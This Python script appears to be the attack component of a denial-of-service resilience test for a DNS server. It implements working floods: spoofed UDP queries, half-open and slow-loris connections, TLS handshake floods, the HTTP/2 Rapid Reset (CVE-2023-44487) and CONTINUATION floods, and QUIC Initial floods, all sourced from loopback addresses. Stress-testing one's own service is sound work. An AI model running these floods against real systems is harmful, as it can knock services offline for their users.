"""Owns the attacks of the trial `abuse`, each a program of its own that lasts as long as it is let: `attacks.py KIND HOST PORT SECONDS`.
Prints how often it did what it does. Never measures what comes of it."""

import itertools
import json
import random
import resource
import socket
import ssl
import sys
import time

# Addresses that attacks come from; the innocent client has another.
FROM = "127.0.7.{}"


def until(end):
    """Counts until the time is over."""
    for number in itertools.count():
        if time.monotonic() >= end:
            return
        yield number


def query(name, id=7):
    labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
    return id.to_bytes(2, "big") + b"\x01\0\0\x01\0\0\0\0\0\0" + labels + b"\0\0\x01\0\x01"


def connect(host, port, number=0, timeout=2):
    return socket.create_connection((host, port), timeout, (FROM.format(number % 50 + 1), 0))


def context(alpn=()):
    made = ssl.create_default_context()
    made.check_hostname, made.verify_mode = False, ssl.CERT_NONE
    if alpn:
        made.set_alpn_protocols(list(alpn))
    return made


def spoofed(host, port, end):
    """One question in the names of 2,000 addresses."""
    sockets = []
    for number in range(2_000):
        one = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        one.bind((f"127.1.{number // 200}.{number % 200 + 1}", 0))
        one.setblocking(False)
        sockets.append(one)
    bytes_, did = query("wechat.com"), 0
    for number in until(end):
        for one in sockets[number % 20 * 100:number % 20 * 100 + 100]:
            try:
                one.sendto(bytes_, (host, port))
                did += 1
            except OSError:
                pass
    return did


def connections(host, port, end):
    """Connections that are opened and closed."""
    did = 0
    for number in until(end):
        try:
            connect(host, port, number).close()
            did += 1
        except OSError:
            pass
    return did


def half_open(host, port, end):
    """Connections that begin no handshake, as many as are taken, again and again."""
    did, kept = 0, []
    for number in until(end):
        try:
            kept.append(connect(host, port, number, 1))
            did += 1
        except OSError:
            time.sleep(0.01)
        if len(kept) > 4_000:
            kept.pop(0).close()
    return did


def handshakes(host, port, end):
    """Whole handshakes, and nothing behind them."""
    did, tls = 0, context()
    for number in until(end):
        try:
            tls.wrap_socket(connect(host, port, number)).close()
            did += 1
        except OSError:
            pass
    return did


def slow_loris(host, port, end):
    """A thousand connections, each with a query that comes by the byte."""
    did, tls, kept = 0, context(), []
    framed = len(query("wechat.com")).to_bytes(2, "big") + query("wechat.com")
    for number in until(end):
        if len(kept) < 1_000:
            try:
                kept.append(tls.wrap_socket(connect(host, port, number)))
            except OSError:
                continue
        for one in list(kept[number % 50::50]):
            try:
                one.send(framed[did % len(framed):did % len(framed) + 1])
                did += 1
            except OSError:
                kept.remove(one)
        if len(kept) >= 1_000:
            time.sleep(0.01)
    return did


def frame(kind, flags, stream, payload=b""):
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def http2(host, port, number):
    tls = context(("h2",)).wrap_socket(connect(host, port, number))
    tls.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0))
    return tls


def head(path):
    """A GET without compression (RFC 7541)."""
    return b"\x82\x87\x04" + bytes([len(path)]) + path.encode() + b"\x01\x0bdns.example"


def rapid_reset(host, port, end):
    """Requests that are given up as soon as they are made (CVE-2023-44487)."""
    did, path = 0, head("/dns-query?dns=AAABAAABAAAAAAAABndlY2hhdANjb20AAAEAAQ")
    for number in until(end):
        try:
            with http2(host, port, number) as tls:
                for stream in itertools.count(1, 200):
                    if time.monotonic() >= end:
                        return did
                    both = (frame(1, 5, at, path) + frame(3, 0, at, b"\0\0\0\x08") for at in range(stream, stream + 200, 2))
                    tls.sendall(b"".join(both))
                    did += 100
        except OSError:
            pass
    return did


def huge_heads(host, port, end):
    """Header fields without end (the CONTINUATION flood)."""
    did, field = 0, b"\x00\x01x\x7f\x81\x7f" + b"y" * 16_000
    for number in until(end):
        try:
            with http2(host, port, number) as tls:
                tls.sendall(frame(1, 0, 1, head("/dns-query")))
                while time.monotonic() < end:
                    tls.sendall(frame(9, 0, 1, field))
                    did += 1
        except OSError:
            pass
    return did


def initials(host, port, end):
    """Datagrams that begin like connections of QUIC."""
    one, did = socket.socket(socket.AF_INET, socket.SOCK_DGRAM), 0
    one.bind((FROM.format(1), 0))
    one.setblocking(False)
    chance = random.Random(7)
    for _ in until(end):
        ids = chance.randbytes(16)
        first = b"\xc0\0\0\0\x01\x08" + ids[:8] + b"\x08" + ids[8:] + b"\0\x44\xb0"
        try:
            one.sendto(first + chance.randbytes(1_230 - len(first)), (host, port))
            did += 1
        except OSError:
            pass
    return did


KINDS = (spoofed, connections, half_open, handshakes, slow_loris, rapid_reset, huge_heads, initials)


if __name__ == "__main__":
    kind, host, port, seconds = sys.argv[1:]
    most = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    attack = next(attack for attack in KINDS if attack.__name__ == kind)
    print(json.dumps({"did": attack(host, int(port), time.monotonic() + float(seconds))}), flush=True)
